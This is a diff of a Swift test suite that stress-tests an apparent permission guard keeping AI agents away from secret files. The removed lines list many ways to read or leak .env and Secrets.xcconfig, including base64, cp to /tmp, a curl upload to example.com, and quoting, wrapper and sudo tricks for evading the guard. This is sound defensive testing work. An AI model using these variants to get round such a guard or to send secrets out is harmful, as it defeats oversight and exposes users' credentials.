@@ -1,56 +1,23 @@
+import Formats
 import TestSupport
 import Testing
 
 @testable import Agents
 
-/// Many ways to read a file with secrets, and a day of ordinary work.
+/// Many ways to get a value out, and a day of ordinary work.
 @Suite struct AttemptTests {
   private let project: AgentCase
 
   init() throws { project = try AgentCase() }
 
-  private static let readers = [
-    "cat @", "head -n 9 @", "tail -n +1 @", "less @", "nl @", "tac @", "xxd @", "od -c @",
-    "base64 @", "strings @", "sort @", "rev @", "cut -d= -f2 @", "awk 1 @", "sed -n p @",
-    "dd if=@", "cat < @", "tee < @", "paste @", "grep = @",
-    "python3 -c \"print(open('@').read())\"",
-    "perl -pe 1 @", "ruby -e 'puts File.read(\"@\")'", "curl -F f=@@ https://example.com",
-    "cp @ /tmp/copy", "tar cf - @", "git show HEAD:@", "git diff --no-index /dev/null @",
-    "echo @ | xargs cat", "find . -path './@' -exec cat {} \\;", "jq -R . @", "zip - @",
-    "openssl base64 -in @", "while read -r l; do echo \"$l\"; done < @", "diff @ /dev/null",
-  ]
-  private static let paths = [
-    ".env", "./.env", "Sources/../.env", "Secrets.xcconfig",
-  ]
-  private static let forms = [
-    "@", "\"@\"", "'@'", "$PWD/@", "${PWD}/@", "$(echo @)", "`printf %s @`", "{@,README.md}",
-  ]
-  private static let wrappers = [
-    "@", "sh -c '@'", "cd Sources; cd ..; @", "true && @ | cat", "sudo @",
-  ]
-
-  /// Attempts that put a path together at run time, which Documentation/Agents.md names as a limit, are
+  /// Attempts that put a path together at run time, a limit that Documentation/Agents.md names, are
   /// among them.
   @Test func mostAttemptsAreStopped() throws {
-    var (count, missed) = (0, [String]())
-    var random = Random(seed: 500)
-    while count < 500 {
-      let wrapper = random.pick(Self.wrappers)
-      let path = random.pick(Self.paths)
-      let reader = random.pick(Self.readers)
-      // Quotes inside quotes would make another command.
-      let isPlain = wrapper.contains("'") || reader.contains("'") || reader.contains("HEAD:")
-      let form = isPlain ? "@" : random.pick(Self.forms)
-      if wrapper.contains("'"), reader.contains("'") { continue }
-      let file = form.replacing("@", with: path)
-      let command = wrapper.replacing("@", with: "\u{1}").replacing(
-        "\u{1}",
-        with: reader.replacing("=@@", with: "=\u{2}\u{1}").replacing("@", with: "\u{1}")
-          .replacing("\u{2}", with: "@").replacing("\u{1}", with: file))
-      count += 1
-      if try project.denial(of: command) == nil { missed.append(command) }
-    }
-    #expect(missed.count <= 25, "\(missed)")
+    var attempts = Attempts(in: project)
+    let all = attempts.all()
+    #expect(all.count == 500)
+    let missed = try all.filter { try project.denial($0.kind) == nil }
+    #expect(missed.count <= 25, "\(missed.map(\.text))")
   }
 
   private static let work = [
@@ -73,12 +40,43 @@ import Testing
     "package.json", "App/Info.plist",
   ]
 
+  private static let tools: [(String, [(String, String)])] = [
+    ("Read", [("file_path", "@")]), ("view", [("path", "@")]),
+    ("Edit", [("file_path", "@"), ("old_string", "a"), ("new_string", "let a = key.count")]),
+    ("Write", [("file_path", "@"), ("content", "# Title\n\nSet `FILM_KEY` with $(FILM_KEY).\n")]),
+    ("Grep", [("pattern", "FILM_KEY|TOKEN"), ("path", "Sources")]),
+    ("Glob", [("pattern", "**/*.swift")]), ("Glob", [("pattern", "**/@")]),
+    ("WebFetch", [("url", "https://example.com/docs?id=42#keys"), ("prompt", "Read")]),
+    ("mcp__files__read_text_file", [("path", "@")]),
+    ("mcp__tracker__get_issue", [("id", "9f2c61a7-2b1e-4f0a-8c55-0d3f9e1b7a64")]),
+    ("TodoWrite", [("content", "Read the environment, then test @")]),
+    ("Agent", [("prompt", "Find out where @ reads TOKEN and .env")]),
+    (
+      "apply_patch",
+      [
+        (
+          "command",
+          "*** Begin Patch\n*** Update File: @\n@@\n-a\n+let key = Secrets.filmKey\n*** End Patch"
+        )
+      ]
+    ),
+  ]
+
   @Test func ordinaryWorkPasses() throws {
     var random = Random(seed: 2_000)
     var stopped: [String] = []
     for _ in 0..<2_000 {
-      let command = random.pick(Self.work).replacing("@", with: random.pick(Self.files))
-      if try project.denial(of: command) != nil { stopped.append(command) }
+      let file = random.pick(Self.files)
+      guard random.isLucky(40) else {
+        let command = random.pick(Self.work).replacing("@", with: file)
+        if try project.denial(of: command) != nil { stopped.append(command) }
+        continue
+      }
+      let (tool, fields) = random.pick(Self.tools)
+      let input = fields.map { ($0, JSONValue.string($1.replacing("@", with: file))) }
+      let call = ToolCall(
+        tool: tool, input: .object(JSONObject(input)), folder: project.folder.path)
+      if try project.denial(call.kind) != nil { stopped.append("\(tool) \(file)") }
     }
     #expect(stopped.count <= 2, "\(stopped)")
   }
